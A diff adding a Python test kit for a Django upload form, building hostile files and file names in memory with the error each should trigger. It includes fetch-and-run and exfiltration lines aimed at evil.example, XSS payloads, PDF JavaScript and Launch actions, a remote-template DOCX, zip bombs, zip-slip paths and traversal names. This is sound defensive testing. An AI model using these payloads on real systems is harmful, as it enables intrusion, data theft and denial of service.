@@ -1,0 +1,457 @@
+"""A kit of files and names an attacker would try on an upload form, each built in memory when a test asks for it.
+
+Nothing here is a committed binary: executables are only their headers (nothing runs), bombs are zeros deflated as
+they are written, and the bigger builds are cached for the session.
+
+``HOSTILE_FILES`` are contents (with an honest-looking name); ``HOSTILE_NAMES`` are names (sent with a valid PDF);
+``multipart`` builds a request body byte for byte, as a browser or an attacker's script would, because Django's
+test client rewrites file names (``os.path.basename``) and ``SimpleUploadedFile`` refuses some of them.
+"""
+
+import functools
+import io
+import struct
+import zipfile
+from dataclasses import dataclass
+from urllib.parse import quote
+
+from tests.security.conftest import docx, pdf
+
+MIB = 1024 * 1024
+OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"
+
+
+# --- Executables, markup and script, each to be renamed .pdf, .docx... -----------------------------------------
+
+
+def elf():
+    """An ELF 64-bit x86-64 executable header (what `file` calls "ELF 64-bit LSB executable")."""
+    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
+    header = struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
+    return ident + header + b"\x48\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # exit(0)
+
+
+def pe():
+    """A Windows PE (MZ) header: the DOS stub pointing at a "PE\\0\\0" signature and an x86-64 COFF header."""
+    dos = bytearray(64)
+    dos[0:2] = b"MZ"
+    struct.pack_into("<I", dos, 0x3C, 64)
+    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
+    return bytes(dos) + coff + bytes(240)
+
+
+def macho():
+    """A 64-bit Mach-O executable header (MH_MAGIC_64, x86-64, MH_EXECUTE)."""
+    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(4)
+
+
+def macho_universal():
+    """A universal ("fat") Mach-O header: big-endian 0xCAFEBABE, as Java class files also start."""
+    return struct.pack(">II", 0xCAFEBABE, 1) + struct.pack(">iiIII", 0x01000007, 3, 4096, 4096, 12)
+
+
+def shell_script():
+    return b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
+
+
+def html():
+    return b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
+
+
+def html_with_bom():
+    """HTML behind a UTF-8 byte order mark and white space, as content sniffers still recognise it."""
+    return b"\xef\xbb\xbf \n\t<html><script>alert(1)</script></html>"
+
+
+def svg():
+    return (
+        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+        b"<script>alert(document.cookie)</script></svg>"
+    )
+
+
+def javascript():
+    return b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t));\n"
+
+
+def zip_archive(entries=None):
+    """A plain zip of ``entries`` (name, bytes); by default one HTML page."""
+    entries = [("payload.html", html())] if entries is None else entries
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def ole2_not_word():
+    """An OLE2 compound file without a "WordDocument" stream: an .msi or .xls renamed .doc."""
+    return OLE2_MAGIC + bytes(512 - len(OLE2_MAGIC)) + "Workbook".encode("utf-16-le") + bytes(64)
+
+
+# --- Polyglots: one file, two readings ---------------------------------------------------------------------------
+
+
+def gifar():
+    """A GIF whose tail is a Java archive: a browser sees an image, a JVM an applet."""
+    gif = (
+        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"  # a 1x1 image, two colours
+        b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
+    )
+    return gif + zip_archive([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\nMain-Class: Evil\n")])
+
+
+def pdf_then_zip():
+    """A valid PDF with a zip (holding an HTML page) appended: a PDF to a reader, an archive to unzip."""
+    return pdf() + zip_archive()
+
+
+def zip_then_pdf():
+    """A zip first, a PDF after it: an archive by its first bytes, whatever a PDF reader would find later."""
+    return zip_archive() + pdf()
+
+
+def pdf_header_html():
+    """A PDF header in front of an HTML body: a PDF by its first bytes, a page to a browser that sniffs."""
+    return b"%PDF-1.4\n" + html() + b"\n%%EOF\n"
+
+
+# --- Documents that are what they say, with active content -------------------------------------------------------
+
+
+def pdf_with_javascript():
+    """A one-page PDF that runs JavaScript on opening (/OpenAction), from its name tree and on page open, and
+    tries to launch a program (/Launch)."""
+    objects = [
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript 6 0 R>>>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/AA<</O 7 0 R>>>>",
+        b"<</Length 44>>\nstream\nBT /F1 12 Tf 72 720 Td (Hello) Tj ET\n\nendstream",
+        b"<</Type/Action/S/JavaScript/JS(app.alert\\(document.URL\\);this.submitForm\\('https://evil.example/'\\))>>",
+        b"<</Names[(init) 5 0 R]>>",
+        b"<</Type/Action/S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
+    ]
+    out = b"%PDF-1.7\n"
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return out
+
+
+def docx_with_macro():
+    """A DOCX carrying a VBA project (word/vbaProject.bin, an OLE2 file), declared macro-enabled: a .docm renamed."""
+    content_types = (
+        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+        b'<Override PartName="/word/document.xml" '
+        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", content_types)
+        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
+        archive.writestr(
+            "word/_rels/document.xml.rels",
+            '<?xml version="1.0"?><Relationships><Relationship Id="rId9" '
+            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
+            "</Relationships>",
+        )
+        archive.writestr("word/vbaProject.bin", OLE2_MAGIC + bytes(504) + b"Attribute VB_Name = AutoOpen" + bytes(64))
+    return buffer.getvalue()
+
+
+def docx_with_remote_template():
+    """A DOCX whose relationships fetch a remote template (the route of the "Follina" attack)."""
+    return docx(
+        [
+            (
+                "word/_rels/document.xml.rels",
+                '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
+                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
+                'Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html" TargetMode="External"/>'
+                "</Relationships>",
+            )
+        ]
+    )
+
+
+# --- Archives that are dangerous to open -------------------------------------------------------------------------
+
+
+def _zeros_entry(archive, name, mebibytes):
+    with archive.open(name, "w") as entry:
+        block = bytes(MIB)
+        for _ in range(mebibytes):
+            entry.write(block)
+
+
+@functools.cache
+def odt_bomb(mebibytes=50):
+    """An ODT (stored mimetype first, as ODF requires) with ``mebibytes`` MiB of zeros: about 1 KiB per MiB."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
+        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
+        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>')
+        _zeros_entry(archive, "Pictures/image1.png", mebibytes)
+    return buffer.getvalue()
+
+
+@functools.cache
+def docx_bomb(mebibytes=50):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
+        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
+        _zeros_entry(archive, "word/media/image1.png", mebibytes)
+    return buffer.getvalue()
+
+
+def odt(extra=()):
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
+        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
+        for name, data in extra:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def docx_nesting_a_zip():
+    return docx([("word/media/inner.zip", zip_archive())])
+
+
+def odt_nesting_a_disguised_zip():
+    """An archive inside an ODT, under an image's name."""
+    return odt([("Pictures/photo.png", zip_archive())])
+
+
+def zip_of_documents():
+    """A plain zip of Word files (nested archives), named .docx."""
+    return zip_archive([("a.docx", docx()), ("b.docx", docx())])
+
+
+def docx_zip_slip():
+    return docx([("../../../../tmp/evil.sh", b"#!/bin/sh\n")])
+
+
+def docx_zip_slip_windows():
+    """Traversal with backslashes, the separator of Windows' extractors."""
+    return docx([("..\\..\\..\\Users\\Public\\evil.bat", b"calc.exe\r\n")])
+
+
+def docx_zip_slip_drive():
+    return docx([("C:/Windows/Temp/evil.bat", b"calc.exe\r\n")])
+
+
+def docx_with_nameless_entry():
+    """A DOCX with an entry whose name is empty (zipfile will not write one): the one-letter name of its last entry
+    becomes a one-byte "extra field", in its local header and in its directory record."""
+    content = bytearray(docx([("x", b"x")]))
+    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
+        local = archive.getinfo("x").header_offset
+    struct.pack_into("<HH", content, local + 26, 0, 1)  # file name length, extra field length
+    record = content.rindex(b"PK\x01\x02")  # the last directory record is the entry's
+    struct.pack_into("<HH", content, record + 28, 0, 1)
+    return bytes(content)
+
+
+def docx_with_corrupt_data():
+    """A DOCX whose directory is sound but whose document part does not inflate (a damaged download, or bait)."""
+    content = bytearray(docx([("word/styles.xml", "<w:styles/>" * 200)]))
+    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
+        info = archive.getinfo("word/document.xml")
+    start = info.header_offset + 30 + len(info.filename.encode())  # the entry's data, after its local header
+    content[start : start + 4] = b"\xff\xff\xff\xff"  # an invalid deflate block type
+    return bytes(content)
+
+
+def docx_truncated():
+    content = docx([("word/styles.xml", "<w:styles/>" * 200)])
+    return content[: len(content) // 2]
+
+
+# --- Sizes ---------------------------------------------------------------------------------------------------------
+
+
+def pdf_of_size(size):
+    """A valid PDF padded with a comment to exactly ``size`` bytes."""
+    base = pdf()
+    if size < len(base) + 2:
+        raise ValueError(f"a PDF needs at least {len(base) + 2} bytes")
+    return base + b"%" + b"x" * (size - len(base) - 2) + b"\n"
+
+
+def empty():
+    return b""
+
+
+# --- The kit -------------------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class Hostile:
+    key: str
+    name: str
+    build: object  # a function of no arguments returning the content
+    refusal: str | None = None  # the form error's code; None when the file is a real document, to be stored inert
+    kind: str | None = None  # the kind it is accepted as
+
+    @property
+    def content(self):
+        return self.build()
+
+    def __str__(self):
+        return self.key
+
+
+HOSTILE_FILES = [
+    # Refused: not a document, whatever the name says.
+    Hostile("elf-as-pdf", "report.pdf", elf, "wrong_type"),
+    Hostile("pe-as-pdf", "report.pdf", pe, "wrong_type"),
+    Hostile("pe-as-docx", "report.docx", pe, "wrong_type"),
+    Hostile("macho-as-pdf", "report.pdf", macho, "wrong_type"),
+    Hostile("macho-universal-as-doc", "report.doc", macho_universal, "wrong_type"),
+    Hostile("script-as-odt", "report.odt", shell_script, "wrong_type"),
+    Hostile("html-as-pdf", "report.pdf", html, "wrong_type"),
+    Hostile("html-bom-as-pdf", "report.pdf", html_with_bom, "wrong_type"),
+    Hostile("html-as-docx", "report.docx", html, "wrong_type"),
+    Hostile("svg-as-pdf", "report.pdf", svg, "wrong_type"),
+    Hostile("svg-as-docx", "report.docx", svg, "wrong_type"),
+    Hostile("js-as-pdf", "report.pdf", javascript, "wrong_type"),
+    Hostile("ole2-not-word-as-doc", "report.doc", ole2_not_word, "wrong_type"),
+    Hostile("gifar-as-pdf", "report.pdf", gifar, "wrong_type"),
+    Hostile("zip-then-pdf", "report.pdf", zip_then_pdf, "wrong_type"),
+    Hostile("plain-zip-as-docx", "report.docx", zip_archive, "wrong_type"),
+    # Refused: archives dangerous to open.
+    Hostile("odt-bomb", "report.odt", odt_bomb, "archive_bomb"),
+    Hostile("docx-bomb", "report.docx", docx_bomb, "archive_bomb"),
+    Hostile("docx-nesting-zip", "report.docx", docx_nesting_a_zip, "archive_nested"),
+    Hostile("odt-nesting-disguised-zip", "report.odt", odt_nesting_a_disguised_zip, "archive_nested"),
+    Hostile("zip-of-docx", "report.docx", zip_of_documents, "archive_nested"),
+    Hostile("docx-zip-slip", "report.docx", docx_zip_slip, "archive_paths"),
+    Hostile("docx-zip-slip-windows", "report.docx", docx_zip_slip_windows, "archive_paths"),
+    Hostile("docx-zip-slip-drive", "report.docx", docx_zip_slip_drive, "archive_paths"),
+    Hostile("docx-nameless-entry", "report.docx", docx_with_nameless_entry, "archive_paths"),
+    # Refused: damaged archives, unreadable as documents.
+    Hostile("docx-corrupt-deflate", "report.docx", docx_with_corrupt_data, "wrong_type"),
+    Hostile("docx-truncated", "report.docx", docx_truncated, "wrong_type"),
+    # Refused: empty.
+    Hostile("empty-pdf", "report.pdf", empty, "empty"),
+    # Accepted as what they really are, to be stored inert.
+    Hostile("pdf-javascript", "report.pdf", pdf_with_javascript, kind="pdf"),
+    Hostile("pdf-then-zip", "report.pdf", pdf_then_zip, kind="pdf"),
+    Hostile("pdf-header-html", "report.pdf", pdf_header_html, kind="pdf"),
+    Hostile("docx-macro", "report.docx", docx_with_macro, kind="docx"),
+    Hostile("docx-remote-template", "report.docx", docx_with_remote_template, kind="docx"),
+]
+
+# Real documents under names that would make them active once saved: the name must not decide what they become.
+MISLEADING_NAMES = [
+    Hostile("pdf-html-as-html", "page.html", pdf_header_html, kind="pdf"),
+    Hostile("pdf-as-svg", "image.svg", pdf, kind="pdf"),
+    Hostile("pdf-as-exe", "setup.exe", pdf, kind="pdf"),
+    Hostile("pdf-bidi-exe", "cv\u202efdp.exe", pdf, kind="pdf"),
+    Hostile("pdf-nul-exe", "report.pdf\x00.exe", pdf, kind="pdf"),
+    Hostile("docx-macro-as-docm", "invoice.docm", docx_with_macro, kind="docx"),
+    Hostile("pdf-no-extension", "report", pdf, kind="pdf"),
+]
+
+# Names sent with a valid PDF. The form must store them cleaned: no path, no control or bidirectional character,
+# at most 150 characters; none may end in an error page.
+HOSTILE_NAMES = {
+    "posix-traversal": "../../etc/passwd.pdf",
+    "windows-traversal": "..\\..\\Windows\\System32\\evil.pdf",
+    "mixed-traversal": "..\\../..\\/evil.pdf",
+    "absolute-posix": "/etc/cron.d/evil.pdf",
+    "absolute-windows": "C:\\Windows\\evil.pdf",
+    "drive-relative": "C:evil.pdf",
+    "unc": "\\\\server\\share\\evil.pdf",
+    "html-entity-traversal": "&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;evil.pdf",
+    "nul": "evil\x00.pdf",
+    "control": "\x1b[2Jre\x07po\x08rt\x7f\x9b.pdf",
+    "tab-newline": "re\tport\r\nX-Injected: yes.pdf",
+    "rlo": "submission\u202egpj.pdf",
+    "lro-pdf": "\u202dLTR\u202c override.pdf",
+    "isolates": "\u2066iso\u2067late\u2068d\u2069.pdf",
+    "marks": "\u200eLRM\u200fRLM\u061cALM.pdf",
+    "zero-width": "re\u200bpo\u200crt\u200d\ufeff\u2060.pdf",
+    "long-ascii": "a" * 296 + ".pdf",
+    "long-accented": "é" * 296 + ".pdf",
+    "long-cjk": "報告" * 148 + ".pdf",  # 300 characters, 892 bytes: just under the parser's header limit
+    "long-extension": "report." + "x" * 200,
+    "only-dots": "...",
+    "dots-and-spaces": ". . .  ",
+    "leading-dot": ".htaccess",
+    "trailing-dots": "report.pdf. . .",
+    "reserved-con": "CON.pdf",
+    "reserved-nul": "NUL",
+    "reserved-com1": "com1.pdf",
+    "ads-stream": "report.pdf:evil.exe",
+    "markup": "<img src=x onerror=alert(1)>.pdf",
+    "quotes": "a\"b'c`.pdf",
+    "fullwidth-dots": "\uff0e\uff0e",
+    "two-dot-leader": "\u2025",
+    "fullwidth-traversal": "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd.pdf",
+    "fullwidth-backslash": "\uff0e\uff0e\uff3cevil.pdf",
+}
+
+# Names whose part header passes the 1 KiB Django's multipart parser reads (MAX_TOTAL_HEADER_SIZE): the request is
+# refused whole, before the form sees it.
+OVERLONG_NAMES = {
+    "long-emoji": "\U0001f4c4" * 296 + ".pdf",  # 1,188 bytes of UTF-8
+    "long-cjk": "報告書" * 120 + ".pdf",  # 364 characters, 1,084 bytes
+    "long-ascii": "a" * 1100 + ".pdf",
+}
+
+# Names Django's request parser drops (the file then counts as not sent): "" "." ".." after removing the path.
+DROPPED_NAMES = {"dot-dot": "..", "dot": ".", "traversal-to-dot-dot": "a/..", "windows-dot-dot": "x\\.."}
+
+
+# --- A request body built byte for byte ----------------------------------------------------------------------------
+
+BOUNDARY = "HostileKitBoundaryq8YbVo7MA4YWxkTrZu0gW"
+MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
+
+
+@dataclass(frozen=True)
+class Part:
+    field: str
+    name: str
+    content: bytes
+    content_type: str = "application/pdf"
+    rfc2231: bool = False  # send the name as filename*=UTF-8''…, percent-encoded (NUL, CR and LF go through)
+
+
+def _disposition(part):
+    if part.rfc2231:
+        return f"form-data; name=\"{part.field}\"; filename*=UTF-8''{quote(part.name, safe='')}"
+    # What browsers do (HTML's multipart/form-data encoding): escape only the quote, CR and LF.
+    name = part.name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
+    return f'form-data; name="{part.field}"; filename="{name}"'
+
+
+def multipart(fields=None, files=()):
+    """``(body, content_type)`` of a multipart/form-data request: ``fields`` then the file ``Part``s."""
+    out = io.BytesIO()
+    for key, value in (fields or {}).items():
+        for item in value if isinstance(value, list | tuple) else [value]:
+            out.write(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode())
+            out.write(str(item).encode("utf-8", "surrogatepass") + b"\r\n")
+    for part in files:
+        out.write(f"--{BOUNDARY}\r\nContent-Disposition: {_disposition(part)}\r\n".encode("utf-8", "surrogatepass"))
+        out.write(f"Content-Type: {part.content_type}\r\n\r\n".encode())
+        out.write(part.content + b"\r\n")
+    out.write(f"--{BOUNDARY}--\r\n".encode())
+    return out.getvalue(), MULTIPART
+
+
+def post_multipart(client, path, fields=None, files=(), **extra):
+    body, content_type = multipart(fields, files)
+    return client.post(path, data=body, content_type=content_type, **extra)
